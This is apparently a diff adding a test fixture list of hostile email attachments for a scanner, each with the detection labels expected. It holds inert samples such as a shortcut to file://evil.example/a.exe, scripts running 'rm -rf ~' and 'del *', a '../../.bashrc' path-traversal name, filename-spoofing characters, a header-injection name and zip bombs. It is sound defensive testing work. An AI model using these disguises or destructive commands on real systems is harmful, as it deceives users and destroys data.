@@ -1,0 +1,170 @@
+/** Attachments that attack, and what must be found in each. A new trick begins with a new line here. */
+import { documents } from "./documents.ts";
+import { file, type HostileAttachment, word } from "./hostile-attachment.ts";
+import { compoundFile, encrypted, nested, tar, text, zeros, zip } from "./archives.ts";
+
+const exe = Buffer.concat([Buffer.from("MZ\x90\0", "latin1"), Buffer.alloc(60)]);
+const programs = [
+  file("a program", "setup.exe", exe, "program"),
+  file("a program named as a document", "invoice.pdf", exe, "program", "other-type"),
+  file("a program named as a picture", "holiday.jpg", exe, "program", "other-type"),
+  file("a program without a name", "", exe, "program"),
+  file("a Linux program", "readme.txt", Buffer.from("\x7fELF\x02\x01\x01\0\0\0", "latin1"), "program", "other-type"),
+  file("a screen saver", "photos.scr", exe, "program"),
+  file(
+    "a shortcut",
+    "letter.lnk",
+    Buffer.concat([Buffer.from("4c0000000114020000000000c000000000000046", "hex"), Buffer.alloc(60)]),
+    "shortcut",
+  ),
+  file(
+    "a shortcut named as a document",
+    "letter.doc",
+    Buffer.concat([Buffer.from("4c00000001140200", "hex"), Buffer.alloc(60)]),
+    "shortcut",
+    "other-type",
+  ),
+  file("an internet shortcut", "news.url", "[InternetShortcut]\r\nURL=file://evil.example/a.exe", "shortcut"),
+  file("a desktop entry", "letter.desktop", "[Desktop Entry]\nExec=sh", "shortcut"),
+  file("a script by its name", "statement.js", "WScript.Shell", "script"),
+  file("a script by its start", "notes", "#!/bin/sh\nrm -rf ~", "script"),
+  file("a batch file", "a.txt", "@echo off\r\ndel *", "script"),
+  file("an HTML application", "form.hta", "<html><script>1</script></html>", "script", "page-script"),
+  file("a help file", "help.chm", Buffer.concat([Buffer.from("ITSF"), Buffer.alloc(40)]), "script"),
+  file(
+    "a notebook with a trap",
+    "plan.one",
+    Buffer.concat([Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex"), Buffer.alloc(40)]),
+    "shortcut",
+  ),
+  file("an installer", "update.msi", compoundFile("\u4840\u3f7f\u4164\u422f"), "program"),
+  file("a Java program", "viewer.jar", zip({ "META-INF/MANIFEST.MF": text("Main-Class: A") }), "program"),
+  file(
+    "a telephone's program",
+    "game.apk",
+    zip({ "AndroidManifest.xml": text("a"), "META-INF/MANIFEST.MF": text("b") }),
+    "program",
+  ),
+  file(
+    "a disk image",
+    "scan.iso",
+    Buffer.concat([Buffer.alloc(0x8001), Buffer.from("CD001"), Buffer.alloc(2048)]),
+    "disk-image",
+  ),
+  file(
+    "a disk image by its content",
+    "scan.pdf",
+    Buffer.concat([Buffer.alloc(0x8001), Buffer.from("CD001"), Buffer.alloc(2048)]),
+    "disk-image",
+    "other-type",
+  ),
+  file(
+    "a virtual disk",
+    "data.vhd",
+    Buffer.concat([Buffer.alloc(2048), Buffer.from("conectix"), Buffer.alloc(504)]),
+    "disk-image",
+  ),
+  file("a new virtual disk", "data.bin", Buffer.concat([Buffer.from("vhdxfile"), Buffer.alloc(600)]), "disk-image"),
+];
+
+const names = [
+  file("two extensions", "invoice.pdf.exe", exe, "program", "double-extension"),
+  file(
+    "two extensions with room between them",
+    "invoice.pdf                    .js",
+    "1",
+    "script",
+    "double-extension",
+    "strange-name",
+  ),
+  file("two extensions and a dot behind", "report.docx.scr.", exe, "program", "double-extension", "strange-name"),
+  file("a name that is turned round", "annexe\u202egpj.exe", exe, "program", "hidden-characters"),
+  file("a name with isolates", "a\u2066fdp\u2069.exe", exe, "program", "hidden-characters"),
+  file("an end that is not seen", "letter.txt\u200b.js", "1", "script", "hidden-characters", "double-extension"),
+  file(
+    "a filler that is not seen",
+    "letter.pdf\u3164\u3164.exe",
+    exe,
+    "program",
+    "hidden-characters",
+    "double-extension",
+  ),
+  file("a way to another folder", "../../.bashrc", "alias ls=rm", "text", "strange-name"),
+  file("a Windows path", "C:\\Windows\\a.txt", "a", "text", "strange-name"),
+  file("a name with a zero", "a.exe\0.txt", "a", "text", "strange-name"),
+  file("a name with a line break", "a\r\nX-Header: b.txt", "a", "text", "strange-name"),
+  file("a device", "CON.txt", "a", "text", "strange-name"),
+  file("another device", "lpt1", "a", "text", "strange-name"),
+  file("a space at the end", "a.txt ", "a", "text", "strange-name"),
+];
+
+const archives = [
+  file("a program inside", "a.zip", zip({ "photos/setup.exe": exe }), "archive", "program-inside"),
+  file("a script inside", "a.zip", zip({ "invoice.pdf.js": text("1") }), "archive", "script-inside"),
+  file("a shortcut inside", "a.zip", zip({ "read me.lnk": text("1") }), "archive", "script-inside"),
+  file("a program two archives deep", "a.zip", nested(2, zip({ "a.exe": exe })), "archive", "program-inside"),
+  file("a program in a tape archive", "a.tar", tar({ "b/a.exe": Buffer.from(exe) }), "archive", "program-inside"),
+  file(
+    "macros inside",
+    "a.zip",
+    zip({ "a.docx": word({ "word/vbaProject.bin": text("x") }) }),
+    "archive",
+    "macros-inside",
+  ),
+  file("a closed archive", "a.zip", encrypted(zip({ "a.txt": text("secret") })), "archive", "encrypted"),
+  file(
+    "a closed archive with a program",
+    "a.zip",
+    encrypted(zip({ "a.exe": exe })),
+    "archive",
+    "encrypted",
+    "program-inside",
+  ),
+  file("more depth than is looked into", "a.zip", nested(6, zip({ "a.exe": exe })), "archive", "too-much-inside"),
+  file(
+    "a bomb",
+    "a.zip",
+    zip({ "a.zip": [Buffer.alloc(40 * 1024 * 1024), { level: 9 }] }),
+    "archive",
+    "too-much-inside",
+  ),
+  file("a bomb of one stream", "a.gz", zeros(40), "archive", "too-much-inside"),
+  file(
+    "a bomb of documents",
+    "a.zip",
+    zip({ "a.docx": [Buffer.alloc(40 * 1024 * 1024), { level: 9 }] }),
+    "archive",
+    "too-much-inside",
+  ),
+  file(
+    "a RAR archive",
+    "a.rar",
+    Buffer.concat([Buffer.from("526172211a0701000000000000", "hex"), Buffer.alloc(40)]),
+    "archive",
+    "closed-archive",
+  ),
+  file(
+    "a closed RAR archive",
+    "a.rar",
+    Buffer.concat([Buffer.from("526172211a0701003392b5e50a0104", "hex"), Buffer.alloc(40)]),
+    "archive",
+  ),
+  file(
+    "a 7z archive",
+    "a.7z",
+    Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), Buffer.alloc(40)]),
+    "archive",
+    "closed-archive",
+  ),
+  file(
+    "an archive behind a picture",
+    "a.png",
+    Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), zip({ "a.exe": exe })]),
+    "archive",
+    "other-type",
+    "program-inside",
+  ),
+  file("a cut archive", "a.zip", zip({ "a.txt": text("a") }).subarray(0, 30), "archive", "damaged"),
+];
+
+export const hostileAttachments: HostileAttachment[] = [...programs, ...names, ...documents, ...archives];
